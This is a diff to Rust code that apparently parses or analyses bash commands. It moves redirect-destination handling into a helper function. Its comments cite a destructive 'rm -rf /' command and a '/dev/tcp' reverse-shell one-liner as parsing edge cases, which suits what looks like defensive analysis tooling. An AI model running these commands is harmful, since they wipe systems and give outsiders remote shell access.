@@ -488,25 +488,10 @@ impl<'s> Walker<'s, '_> {
                 let op = operator_of(node, self.src);
                 // `rm > /dev/null -rf /`: words after the first destination are
                 // arguments of the command, not part of the target.
-                let mut cursor = node.walk();
-                let dests: Vec<Node<'t>> = node
-                    .children_by_field_name(k::FIELD_DESTINATION, &mut cursor)
-                    .collect();
-                let mut dests = dests.into_iter();
-                let target = dests
-                    .next()
+                let target = node
+                    .child_by_field_name(k::FIELD_DESTINATION)
                     .map(|d| self.word(d, depth + 1, in_subst, stack));
-                for extra in dests {
-                    // `bash -i >& /dev/tcp/h/1 0>&1`: the grammar hangs the `0` of the
-                    // next redirect on this one, where bash reads `0>&1` (a digit word
-                    // touching a redirect is its descriptor), not an argument `0`.
-                    let next_fd = self.text(extra).bytes().all(|b| b.is_ascii_digit())
-                        && node.next_sibling().is_some_and(|n| {
-                            n.kind() == k::FILE_REDIRECT && n.start_byte() == extra.end_byte()
-                        });
-                    if next_fd {
-                        continue;
-                    }
+                for extra in extra_destinations(node, self.src) {
                     let w = self.word(extra, depth + 1, in_subst, stack);
                     extra_words.push(w);
                 }
@@ -1083,6 +1068,30 @@ pub(crate) fn with_assignments(cmd: &SimpleCommand) -> String {
     all.sort_by_key(|w| w.start);
     let texts: Vec<&str> = all.iter().map(|w| w.text.as_str()).collect();
     crate::model::vocab::collapse_whitespace(&texts.join(" "))
+}
+
+/// The destinations of a file redirect after its target: arguments of the command for
+/// bash (`rm > /dev/null -rf /`), which the grammar hangs on the redirect. Not the digit
+/// of the next redirect: in `bash -i >& /dev/tcp/h/1 0>&1` the grammar hangs the `0` of
+/// `0>&1` here, where bash reads a digit word touching a redirect as its descriptor.
+pub(crate) fn extra_destinations<'t>(node: Node<'t>, src: &str) -> Vec<Node<'t>> {
+    let mut cursor = node.walk();
+    let dests: Vec<Node<'t>> = node
+        .children_by_field_name(k::FIELD_DESTINATION, &mut cursor)
+        .collect();
+    dests
+        .into_iter()
+        .skip(1)
+        .filter(|d| {
+            let digits = src
+                .get(d.byte_range())
+                .is_some_and(|t| t.bytes().all(|b| b.is_ascii_digit()));
+            !(digits
+                && node.next_sibling().is_some_and(|n| {
+                    n.kind() == k::FILE_REDIRECT && n.start_byte() == d.end_byte()
+                }))
+        })
+        .collect()
 }
 
 /// A redirect read (`Walker::redirect_parts`): each redirect with whether it feeds text
